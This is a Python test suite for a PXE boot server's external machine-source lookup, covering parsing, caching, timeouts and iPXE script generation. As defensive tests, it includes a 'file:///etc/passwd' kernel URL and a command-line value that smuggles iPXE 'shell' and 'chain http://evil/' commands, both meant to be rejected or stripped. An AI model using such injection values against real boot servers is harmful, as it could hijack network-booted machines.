"""The external machine source (``[boot] api_url``): parsing, lookup, cache, timeout, and
the boot script it yields, against an in-process fake of the operator's service."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from klein import Klein
from treq.testing import StubTreq
from twisted.internet.defer import Deferred
from twisted.internet.task import Clock
from twisted.trial.unittest import SynchronousTestCase
from twisted.web.iweb import IRequest

from pxetwist.http import ipxe
from pxetwist.machine_source import (
    BadAnswerError,
    ExternalBoot,
    MachineSource,
    parse_answer,
)
from tests.http.helpers import MAC, make_rig

API = "http://machines.example:9000/api"
KERNEL = "http://mirror.example/vmlinuz"


class FakeService:
    """The operator's service: answers per MAC from a dict, 404 for the rest."""

    app = Klein()

    def __init__(self, answers: dict[str, Any]) -> None:
        self.answers = answers
        self.asked: list[str] = []

    @app.route("/api/v1/boot/<mac>")
    def boot(self, request: IRequest, mac: str) -> bytes:
        self.asked.append(mac)
        if mac not in self.answers:
            request.setResponseCode(404)
            return b"not ours"
        answer = self.answers[mac]
        return answer if isinstance(answer, bytes) else json.dumps(answer).encode()


def source_over(service: FakeService, clock: Clock) -> tuple[MachineSource, StubTreq]:
    client = StubTreq(service.app.resource())
    return MachineSource(API, client, clock), client


def looked_up(source: MachineSource, client: StubTreq, mac: str) -> ExternalBoot | None:
    d = source.lookup(mac)
    client.flush()
    result: ExternalBoot | None = SynchronousTestCase().successResultOf(d)
    return result


def test_parse_kernel_answer() -> None:
    """A pixiecore-style answer becomes kernel, initrds and command line."""
    boot = parse_answer({"kernel": KERNEL, "initrd": ["http://m/a.gz", "https://m/b.gz"],
                         "cmdline": "console=ttyS0"})
    assert boot == ExternalBoot(KERNEL, ("http://m/a.gz", "https://m/b.gz"), "console=ttyS0")


@pytest.mark.parametrize("key", ["ipxe_script", "ipxe-script"])
def test_parse_script_answer(key: str) -> None:
    """A whole iPXE script is taken as given, in either spelling of the key."""
    assert parse_answer({key: "#!ipxe\necho hi"}).ipxe_script == "#!ipxe\necho hi\n"


@pytest.mark.parametrize("body", [
    [], "kernel", None, {}, {"kernel": "file:///etc/passwd"}, {"kernel": "vmlinuz"},
    {"kernel": KERNEL, "initrd": "http://m/a"}, {"kernel": KERNEL, "initrd": ["ftp://m/a"]},
    {"kernel": KERNEL, "cmdline": ["a"]}, {"ipxe_script": "echo no shebang"},
    {"ipxe_script": 7},
])
def test_parse_refuses_what_is_not_a_boot(body: object) -> None:
    """Anything but a kernel URL (with URL initrds) or an iPXE script is refused."""
    with pytest.raises(BadAnswerError):
        parse_answer(body)


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=30),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(
        st.sampled_from(["kernel", "initrd", "cmdline", "ipxe_script", "x"]), inner,
        max_size=4),
    max_leaves=12)


@given(json_values)
def test_parse_garbage(body: object) -> None:
    """Any JSON is either a boot description or a BadAnswerError, nothing else."""
    try:
        boot = parse_answer(body)
    except BadAnswerError:
        return
    assert boot.ipxe_script.startswith("#!ipxe") or boot.kernel.startswith("http")


def test_lookup_answers_and_not_ours() -> None:
    """A 200 answer is the boot; a 404 is "not ours" (None)."""
    service = FakeService({MAC: {"kernel": KERNEL, "initrd": [], "cmdline": ""}})
    source, client = source_over(service, Clock())
    assert looked_up(source, client, MAC) == ExternalBoot(kernel=KERNEL)
    assert looked_up(source, client, "52:54:00:00:00:99") is None


def test_lookup_bad_json_is_not_ours() -> None:
    """A 200 whose body is not a boot description falls back (None), not an error."""
    source, client = source_over(FakeService({MAC: {"kernel": 5}}), Clock())
    assert looked_up(source, client, MAC) is None


def test_lookup_is_cached_then_asked_again() -> None:
    """Within the cache time the service is asked once; after it, again."""
    clock = Clock()
    service = FakeService({MAC: {"kernel": KERNEL}})
    source, client = source_over(service, clock)
    looked_up(source, client, MAC)
    looked_up(source, client, MAC)
    assert service.asked == [MAC]
    clock.advance(source.cache_seconds + 1)
    looked_up(source, client, MAC)
    assert service.asked == [MAC, MAC]


class NeverAnswers:
    """An HTTP client whose requests never finish."""

    def get(self, url: str, /) -> Deferred[Any]:
        return Deferred()


def test_lookup_times_out_to_not_ours() -> None:
    """A service that does not answer within the timeout means "not ours"."""
    clock = Clock()
    source = MachineSource(API, NeverAnswers(), clock, timeout=2.0)
    d = source.lookup(MAC)
    assert not d.called
    clock.advance(2.0)
    assert SynchronousTestCase().successResultOf(d) is None


def test_external_script_is_made_safe() -> None:
    """URLs and arguments from the service cannot add iPXE commands."""
    script = ipxe.external_script(ExternalBoot(
        kernel="http://m/vmlinuz${x}", initrd=("http://m/initrd.gz",),
        cmdline="quiet\nshell && chain http://evil/ #x ${net0/mac}"))
    lines = script.splitlines()
    kernel = next(line for line in lines if line.startswith("kernel "))
    assert "${" not in kernel and "&&" not in kernel and "#" not in kernel
    assert "initrd=initrd.gz" in kernel
    assert "initrd --name initrd.gz http://m/initrd.gz" in lines
    assert not any(line.startswith(("shell", "chain")) for line in lines)


def fetch(client: StubTreq, source_client: StubTreq, url: str) -> bytes:
    """GET ``url`` from the app, flushing the app's and the source's in-memory clients."""
    case = SynchronousTestCase()
    d = client.get(url)
    for _ in range(4):
        source_client.flush()
        client.flush()
    response = case.successResultOf(d)
    body = response.content()
    client.flush()
    result: bytes = case.successResultOf(body)
    return result


def test_boot_route_asks_the_source_first(tmp_path: Path) -> None:
    """/pxe/boot.ipxe serves the source's answer for its MACs and the catalog otherwise."""
    rig = make_rig(tmp_path, f"[boot]\nunknown = local\napi_url = {API}\n")
    service = FakeService({MAC: {"ipxe_script": "#!ipxe\necho from the source\n"}})
    rig.app.machine_source, source_client = source_over(service, rig.clock)
    base = "http://10.77.0.1:8080/pxe/boot.ipxe?mac="
    assert fetch(rig.client, source_client, base + MAC) == b"#!ipxe\necho from the source\n"
    other = "52:54:00:00:00:99"
    assert fetch(rig.client, source_client, base + other) == ipxe.LOCAL_BOOT.encode()
    assert service.asked == [MAC, other]
    details = {e.mac: e.detail for e in rig.events.recent() if e.stage == "http.script"}
    assert details[MAC] == f"machine source {API}"
    assert "local boot" in details[other]


def test_service_builds_the_source_only_when_configured(tmp_path: Path) -> None:
    """make_service's builder: no source without api_url, one at that URL with it."""
    from pxetwist.config import load_text
    from pxetwist.service import build_machine_source

    (tmp_path / "tftproot").mkdir()
    (tmp_path / "catalog").mkdir()
    base = "[tftp]\nroot = tftproot\n[catalog]\npaths = catalog\n"
    assert build_machine_source(load_text(base, tmp_path), Clock()) is None
    source = build_machine_source(load_text(base + f"[boot]\napi_url = {API}/\n", tmp_path),
                                  Clock())
    assert source is not None and source.api_url == API
